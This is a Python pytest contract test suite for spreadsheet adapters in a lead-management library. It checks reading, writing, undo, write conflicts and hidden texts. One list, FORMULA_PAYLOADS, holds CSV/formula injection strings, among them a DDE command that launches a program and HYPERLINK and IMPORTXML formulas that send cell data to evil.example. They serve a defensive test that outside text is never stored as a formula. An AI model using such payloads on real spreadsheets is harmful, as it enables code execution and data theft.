"""What every kind of workbook must do, written once. An adapter's test module subclasses `WorkbookContract`.

`make(book)` gives a workbook that holds `book`; `kept(book)` says what this kind keeps of a book
(a CSV keeps one table, and no hidden texts).
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from leadsorted_sheets import errors
from leadsorted_sheets.core.book import Book, Row, row_of, same_book
from leadsorted_sheets.core.changes import AddRow, Change, Clash, Edit, RemoveRow, apply, diff, invert
from leadsorted_sheets.workbook.port import Batch, Workbook
from tests.strategies import cells

Make = Callable[[Book], Workbook]

FORMULA_PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    ";=1+1",
)
"""What OWASP's page on CSV injection lists, and its near kin."""

ANN: Row = row_of(
    {
        "Lead ID": "L-0000000001",
        "First name": "Ann",
        "Last name": "O'Brien & Søn <Ltd>",
        "Email": "ann@acme.example",
        "Phone": "+442079460018",
        "Postcode": "01234",
        "Score": 42,
        "Deal value": 1200.5,
        "Next action due": dt.date(2026, 3, 4),
        "Created": dt.datetime(2026, 1, 2, 3, 4, 5),
        "Notes": "first line\nsecond line  with  spaces ",
        "Favourite colour": "blue",
    }
)
BOB: Row = row_of({"Lead ID": "L-0000000002", "First name": "Bob", "Phone": "+15550100", "Favourite colour": "00123"})
TWO: Book = {"Leads": {"L-0000000001": ANN, "L-0000000002": BOB}}


class WorkbookContract:
    """Subclass it, and give `make` as a fixture."""

    keeps_hidden_texts = True
    law_examples = 25

    @pytest.fixture
    def make(self) -> Make:
        raise NotImplementedError

    def kept(self, book: Book) -> Book:
        """What is expected back from a workbook that was given `book`."""
        return book

    def reads(self, workbook: Workbook) -> Book:
        book = workbook.read().book
        return {"Leads": book.get("Leads", {})}

    def test_it_reads_what_it_was_given(self, make: Make) -> None:
        assert same_book(self.reads(make(TWO)), self.kept(TWO))

    def test_an_empty_table_is_a_table_without_rows(self, make: Make) -> None:
        reading = make({"Leads": {}}).read()
        assert reading.book["Leads"] == {}
        assert "Email" in {at.field for at in (reading.layout("Leads") or pytest.fail("no layout")).columns}

    def test_reading_twice_gives_the_same_revision(self, make: Make) -> None:
        workbook = make(TWO)
        assert workbook.read().revision == workbook.read().revision

    def test_a_place_names_sheet_and_cell(self, make: Make) -> None:
        reading = make(TWO).read()
        layout = reading.layout("Leads") or pytest.fail("no layout")
        column = [at.field for at in layout.columns].index("Email") + 1
        line = reading.lines["Leads"]["L-0000000002"]
        assert reading.place("Leads", "L-0000000002", "Email") == f"{layout.sheet}!{chr(64 + column)}{line}"

    @pytest.mark.parametrize(
        "changes",
        [
            [Edit("Leads", "L-0000000002", "Email", None, "bob@acme.example", "r")],
            [Edit("Leads", "L-0000000001", "Email", "ann@acme.example", None, "r")],
            [Edit("Leads", "L-0000000001", "Score", 42, 43, "r")],
            [Edit("Leads", "L-0000000001", "Next action due", dt.date(2026, 3, 4), dt.date(2027, 1, 1), "r")],
            [Edit("Leads", "L-0000000001", "Favourite colour", "blue", "0042", "r")],
            [AddRow("Leads", "L-0000000003", row_of({"Lead ID": "L-0000000003", "Last name": "Cy", "Score": 7}), "r")],
            [RemoveRow("Leads", "L-0000000001", ANN, "r")],
            [RemoveRow("Leads", "L-0000000001", ANN, "r"), RemoveRow("Leads", "L-0000000002", BOB, "r")],
            [
                RemoveRow("Leads", "L-0000000002", BOB, "merged"),
                Edit("Leads", "L-0000000001", "Notes", ANN["Notes"], "joined", "merged"),
                AddRow("Leads", "L-0000000009", row_of({"Lead ID": "L-0000000009", "Company": "Nine"}), "r"),
                Edit("Leads", "L-0000000009", "Company", "Nine", "Nine Ltd", "r"),
            ],
        ],
        ids=lambda changes: "+".join(type(change).__name__ for change in changes),
    )
    def test_changes_are_written_and_taken_back(self, make: Make, changes: list[Change]) -> None:
        workbook = make(TWO)
        first = workbook.read()
        written = workbook.write(Batch(changes), expect=first.revision)
        assert (list(written.applied), list(written.clashed)) == (changes, [])
        assert same_book(self.reads(workbook), self.kept(apply(TWO, changes)))
        assert workbook.read().revision == written.revision != first.revision
        workbook.write(Batch(invert(changes)), expect=written.revision)
        assert same_book(self.reads(workbook), self.kept(TWO))

    def test_a_row_without_an_id_is_known_by_its_line_and_given_one(self, make: Make) -> None:
        workbook = make({"Leads": {"#2": row_of({"First name": "Ann"}), "#3": row_of({"First name": "Bob"})}})
        reading = workbook.read()
        by_name = {row["First name"]: key for key, row in reading.book["Leads"].items()}
        assert all(key.startswith("#") for key in by_name.values())
        ids = [Edit("Leads", by_name["Bob"], "Lead ID", None, "L-BOB", "id", becomes="L-BOB")]
        then = [Edit("Leads", "L-BOB", "Email", None, "bob@acme.example", "r")]
        workbook.write(Batch([*ids, *then]), expect=reading.revision)
        bob = row_of({"First name": "Bob", "Lead ID": "L-BOB", "Email": "bob@acme.example"})
        assert workbook.read().book["Leads"]["L-BOB"] == bob

    def test_a_write_on_what_has_moved_is_refused_and_changes_nothing(self, make: Make) -> None:
        workbook = make(TWO)
        stale = workbook.read().revision
        workbook.write(Batch([Edit("Leads", "L-0000000001", "Score", 42, 1)]), expect=stale)
        now = self.reads(workbook)
        with pytest.raises(errors.Moved):
            workbook.write(Batch([Edit("Leads", "L-0000000001", "Score", 1, 2)]), expect=stale)
        assert same_book(self.reads(workbook), now)

    def test_what_no_longer_holds_is_named_and_the_rest_is_written(self, make: Make) -> None:
        workbook = make(TWO)
        good = Edit("Leads", "L-0000000001", "Score", 42, 50)
        bad = Edit("Leads", "L-0000000001", "Company", "Acme", "Acme Ltd")
        gone = RemoveRow("Leads", "L-9", {})
        written = workbook.write(Batch([good, bad, gone]), expect=workbook.read().revision)
        assert list(written.applied) == [good]
        assert list(written.clashed) == [Clash(bad, None), Clash(gone, None)]
        assert same_book(self.reads(workbook), self.kept(apply(TWO, [good])))

    @pytest.mark.parametrize("text", FORMULA_PAYLOADS)
    def test_text_from_outside_never_becomes_a_formula(self, make: Make, text: str) -> None:
        row = dict.fromkeys(("First name", "Company", "Notes", "Owner", "Favourite colour"), text)
        added = AddRow("Leads", "L-X", row_of({"Lead ID": "L-X", **row}))
        workbook = make(TWO)
        workbook.write(Batch([added]), expect=workbook.read().revision)
        assert workbook.read().book["Leads"]["L-X"] == self.kept({"Leads": {"L-X": added.row}})["Leads"]["L-X"]

    def test_a_new_row_brings_the_columns_it_needs(self, make: Make) -> None:
        """Whatever a foreign list knew of a lead stays with the lead."""
        added = AddRow("Leads", "L-X", row_of({"Lead ID": "L-X", "Shoe size": "43", "Hat size": "M"}))
        workbook = make(TWO)
        written = workbook.write(Batch([added]), expect=workbook.read().revision)
        assert list(written.applied) == [added]
        assert same_book(self.reads(workbook), self.kept(apply(TWO, [added])))
        workbook.write(Batch([Edit("Leads", "L-X", "Shoe size", "43", "44")]), expect=written.revision)
        assert workbook.read().book["Leads"]["L-X"]["Shoe size"] == "44"

    def test_a_column_that_is_asked_for_is_there(self, make: Make) -> None:
        workbook = make(TWO)
        edit = Edit("Leads", "L-0000000001", "Shoe size", None, "43", "r")
        batch = Batch([edit], columns={"Leads": ["Shoe size", "Favourite colour"]})
        written = workbook.write(batch, expect=workbook.read().revision)
        assert (list(written.applied), list(written.clashed)) == ([edit], [])
        assert workbook.read().book["Leads"]["L-0000000001"]["Shoe size"] == "43"
        headers = [at.header for at in (workbook.read().layout("Leads") or pytest.fail("no layout")).columns]
        assert (headers.count("Shoe size"), headers.count("Favourite colour")) == (1, 1)

    def test_a_peek_is_the_revision_or_nothing(self, make: Make) -> None:
        workbook = make(TWO)
        assert workbook.peek() in {"", workbook.read().revision}

    def test_hidden_texts_come_back(self, make: Make) -> None:
        workbook = make(TWO)
        if not self.keeps_hidden_texts:
            assert workbook.read().hidden == {}
            return
        texts = {"_leadsorted_state": "s" * 20_000, "_leadsorted_journal": "line 1\nline 2\n"}
        workbook.write(Batch(hidden=texts), expect=workbook.read().revision)
        assert {name: workbook.read().hidden[name] for name in texts} == texts
        workbook.write(Batch(hidden={"_leadsorted_state": "shorter"}), expect=workbook.read().revision)
        assert workbook.read().hidden["_leadsorted_state"] == "shorter"
        assert workbook.read().hidden["_leadsorted_journal"] == texts["_leadsorted_journal"]

    def test_whatever_was_changed_is_read_back_and_can_be_undone(self, make: Make) -> None:
        @settings(max_examples=self.law_examples, deadline=None, suppress_health_check=list(HealthCheck), database=None)
        @given(_books(), _books())
        def law(before: Book, after: Book) -> None:
            changes = diff(before, after, "law")
            workbook = make(before)
            start = self.reads(workbook)
            written = workbook.write(Batch(changes), expect=workbook.read().revision)
            assert not written.clashed
            assert same_book(self.reads(workbook), self.kept(after))
            workbook.write(Batch(invert(changes)), expect=workbook.read().revision)
            assert same_book(self.reads(workbook), start)

        law()


@st.composite
def _books(draw: st.DrawFn) -> Book:
    ids = draw(st.lists(st.sampled_from([f"L-{n}" for n in range(6)]), unique=True, max_size=5))
    # Only cells that every program keeps: text without carriage returns in a text column, whole numbers in a number's.
    texts = cells.filter(lambda cell: isinstance(cell, str) and cell.strip() == cell)
    row = st.fixed_dictionaries(
        {},
        optional={
            "First name": texts,
            "Notes": texts,
            "Favourite colour": texts,
            "Score": st.integers(0, 100),
            "Deal value": st.floats(0, 1e6).map(lambda x: round(x, 2) or 1),
            "Next action due": st.dates(dt.date(1990, 1, 1), dt.date(2090, 1, 1)),
            "Created": st.datetimes(dt.datetime(1990, 1, 1), dt.datetime(2090, 1, 1)).map(
                lambda at: at.replace(microsecond=0)
            ),
        },
    )
    return {"Leads": {key: row_of({"Lead ID": key, **draw(row)}) for key in ids}}
